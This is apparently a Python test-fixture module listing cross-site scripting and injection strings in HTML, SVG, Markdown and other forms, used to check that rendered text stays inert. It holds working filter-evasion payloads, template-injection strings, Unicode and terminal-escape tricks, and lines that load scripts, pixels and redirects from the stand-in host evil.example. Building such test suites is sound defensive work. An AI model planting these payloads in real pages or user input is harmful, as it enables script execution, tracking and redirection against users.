"""Texts that would run, fetch or break something if anything took them for more than text.

A script of theirs sets ``window.pwned`` or opens a dialog; what they fetch is at ``evil.example``.
"""

from __future__ import annotations

RUN = "window.pwned=1"
HTML = (
    f"<script>{RUN}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f'"><script>{RUN}</script>',
    f"</textarea></title></style><script>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<img src=x onerror={RUN}>",
    f"<IMG SRC=`x` onerror\t=\t'{RUN}'>",
    f"<img src=x:x onerror\n={RUN}//",
    "<img src=//evil.example/pixel.png>",
    "<picture><source srcset=//evil.example/s.png><img></picture>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<link rel=stylesheet href=//evil.example/s.css><style>@import '//evil.example/i.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
    f"<form action=javascript:{RUN}><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>x</form>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video onerror={RUN}><source></video><audio src=//evil.example/a.mp3 autoplay>",
    f"<div style=\"background:url(//evil.example/b.png)\" onmouseover={RUN}>x</div>",
    f"<x id=ask class=turn tabindex=1 onfocus={RUN}>x</x>",
    f"<!--<img src=\"--><img src=x onerror={RUN}//\">",
    "<template shadowrootmode=open><img src=//evil.example/t.png></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;img src=x onerror={RUN}&#62;",
)  # fmt: skip
SVG = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUN} /><a><text>x</text></a></svg>",
    "<svg><image href=//evil.example/i.svg /><use href=//evil.example/u.svg#x /></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror={RUN}&gt;\">",
)  # fmt: skip
MARKDOWN = (
    "![x](https://evil.example/pixel.png)",
    f"[x](javascript:{RUN})",
    f"[x](  JaVa\tScRiPt:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    f"<javascript:{RUN}>",
    f'[x](https://evil.example/"onmouseover="{RUN})',
    f"![x]() onerror={RUN} ```html <img src=x onerror={RUN}> ```",
    "[x][1] [1]: javascript:alert(1)",
)  # fmt: skip
OTHER = (
    f"javascript:{RUN}",
    "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %> #{alert(1)}",
    "\u202e>tpircs/<1=denwp.wodniw>tpircs<\u202c",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2028<img src=x onerror={RUN}>\u2029",
    f"\x1b]8;;javascript:{RUN}\x1b\\link\x1b]8;;\x1b\\ \x1b[31mred\x1b[0m",
    "__proto__ constructor toString hasOwnProperty",
    "data: {\"choices\": []}\n\ndata: [DONE]",
    "<b>" * 100 + "x" * 400,
)  # fmt: skip
PAYLOADS = (*MARKDOWN, *OTHER, *HTML, *SVG)  # what opens a comment comes late: it hides what follows
